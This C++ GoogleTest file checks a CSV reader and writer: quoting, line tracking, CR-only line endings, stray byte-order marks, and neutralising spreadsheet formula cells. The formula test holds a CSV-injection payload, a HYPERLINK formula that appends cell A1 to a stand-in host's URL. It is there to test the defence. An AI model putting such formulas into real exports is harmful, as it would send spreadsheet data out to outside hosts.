#include "core/csv.h"

#include <gtest/gtest.h>

#include "core/person_csv.h"

namespace sanad {
namespace {

std::vector<std::vector<std::string>> ReadAll(std::string_view text, CsvOptions options = {}) {
  CsvReader reader(text, options);
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> fields;
  while (true) {
    auto more = reader.Next(&fields);
    EXPECT_TRUE(more) << more.error().message;
    if (!more || !*more) break;
    rows.push_back(fields);
  }
  return rows;
}

TEST(CsvReader, ReadsQuotedFieldsWithCommasQuotesAndLineBreaks) {
  auto rows = ReadAll(
      "\xEF\xBB\xBF"
      "a,b\r\n\"x, y\",\"say \"\"hi\"\"\"\n\"two\nlines\",\n");
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0], (std::vector<std::string>{"a", "b"}));
  EXPECT_EQ(rows[1], (std::vector<std::string>{"x, y", "say \"hi\""}));
  EXPECT_EQ(rows[2], (std::vector<std::string>{"two\nlines", ""}));
}

TEST(CsvReader, TracksTheLineWhereEachRecordStarts) {
  CsvReader reader("h\n\"a\nb\"\nc\n");
  std::vector<std::string> fields;
  ASSERT_TRUE(*reader.Next(&fields));
  EXPECT_EQ(reader.line(), 1);
  ASSERT_TRUE(*reader.Next(&fields));
  EXPECT_EQ(reader.line(), 2);
  ASSERT_TRUE(*reader.Next(&fields));
  EXPECT_EQ(reader.line(), 4);
}

TEST(CsvReader, TrimsLeadingSpacesForFebrlStyle) {
  auto rows = ReadAll("rec-1-org, john, smith\n", CsvOptions{.trim_leading_spaces = true});
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0], (std::vector<std::string>{"rec-1-org", "john", "smith"}));
}

TEST(CsvReader, ReportsMalformedRecordsWithTheirLine) {
  CsvReader reader("a,b\nx,\"unclosed\n");
  std::vector<std::string> fields;
  ASSERT_TRUE(*reader.Next(&fields));
  auto bad = reader.Next(&fields);
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().line, 2);
  // The record as a whole is at fault: named "row" (fuzzing found the
  // incident CSV reporting it with no column at all).
  EXPECT_EQ(bad.error().field, "row");

  CsvReader stray("a\"b,c\nok\n");
  auto first = stray.Next(&fields);
  ASSERT_FALSE(first);
  EXPECT_EQ(first.error().line, 1);
  EXPECT_EQ(first.error().field, "row");
  auto second = stray.Next(&fields);
  ASSERT_TRUE(second && *second);
  EXPECT_EQ(fields[0], "ok");
}

TEST(CsvReader, RejectsHugeFields) {
  std::string text = "a," + std::string(5000, 'x') + "\n";
  CsvReader reader(text);
  std::vector<std::string> fields;
  auto r = reader.Next(&fields);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find("too long"), std::string::npos);
}

// Defect L: files saved with classic Mac line endings (CR only) were read as
// one long record, so the import said the file had no rows.
TEST(CsvReader, ReadsCrOnlyLineEndings) {
  CsvReader reader("a,b\rx,y\r\"q\rr\",z\r\rlast,1");
  std::vector<std::string> fields;
  std::vector<std::pair<int64_t, std::vector<std::string>>> rows;
  while (true) {
    auto more = reader.Next(&fields);
    ASSERT_TRUE(more) << more.error().message;
    if (!*more) break;
    rows.emplace_back(reader.line(), fields);
  }
  ASSERT_EQ(rows.size(), 5u);
  EXPECT_EQ(rows[0].second, (std::vector<std::string>{"a", "b"}));
  EXPECT_EQ(rows[1].second, (std::vector<std::string>{"x", "y"}));
  EXPECT_EQ(rows[2].second, (std::vector<std::string>{"q\rr", "z"}));
  EXPECT_EQ(rows[2].first, 3);
  EXPECT_EQ(rows[3].second, (std::vector<std::string>{""}));  // a blank line
  EXPECT_EQ(rows[4].second, (std::vector<std::string>{"last", "1"}));
  EXPECT_EQ(rows[4].first, 6);
  // CRLF and LF are read as before.
  auto mixed = ReadAll("a\r\nb\nc\r\n");
  ASSERT_EQ(mixed.size(), 3u);
  EXPECT_EQ(mixed[2], (std::vector<std::string>{"c"}));
}

// Defect L: a byte-order mark inside a file (two files joined) is not part of
// any value: the table reader refuses it, naming the row and the column.
TEST(ReadCsvTable, AByteOrderMarkInsideTheFileIsRefusedNamingRowAndColumn) {
  const std::string_view columns[] = {"id", "name"};
  std::vector<Error> errors;
  std::vector<int64_t> good;
  const size_t rows = ReadCsvTable(
      "\xEF\xBB\xBFid,name\nr1,A\n\xEF\xBB\xBFr2,B\nr3,\xEF\xBB\xBF"
      "C\n",
      columns, 2, "id,name",
      [&](const std::vector<std::string>&, std::span<const size_t>,
          int64_t line) -> std::optional<Error> {
        good.push_back(line);
        return std::nullopt;
      },
      [&](Error e) { errors.push_back(std::move(e)); });
  EXPECT_EQ(rows, 3u);
  EXPECT_EQ(good, (std::vector<int64_t>{2}));
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[0].line, 3);
  EXPECT_EQ(errors[0].field, "id");
  EXPECT_NE(errors[0].message.find("byte-order mark"), std::string::npos) << errors[0].message;
  EXPECT_EQ(errors[1].line, 4);
  EXPECT_EQ(errors[1].field, "name");
}

// Defect G: a text cell that a spreadsheet would run as a formula (=, +, -,
// @, tab or CR first) is written with a leading single quote, in every CSV
// the site writes; reading it back gives the value as it was.
TEST(CsvWriter, CellsASpreadsheetWouldRunAreNeutralisedAndReadBackUnchanged) {
  const struct {
    std::string value;
    std::string written;
  } cases[] = {
      {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
       "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\""},
      {"+93 700 123 456", "'+93 700 123 456"},
      {"-2+3", "'-2+3"},
      {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "\"'\r=1\""},
      {"Kabul", "Kabul"},
      {"Noor, Ahmad", "\"Noor, Ahmad\""},
      {"", ""},
      {"'quoted", "'quoted"},
      {"'=1", "''=1"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.value);
    std::string out;
    AppendCsvField(&out, c.value);
    EXPECT_EQ(out, c.written);
    auto rows = ReadAll(out + ",end\n");
    ASSERT_EQ(rows.size(), 1u);
    EXPECT_EQ(rows[0], (std::vector<std::string>{c.value, "end"}));
  }
}

}  // namespace
}  // namespace sanad
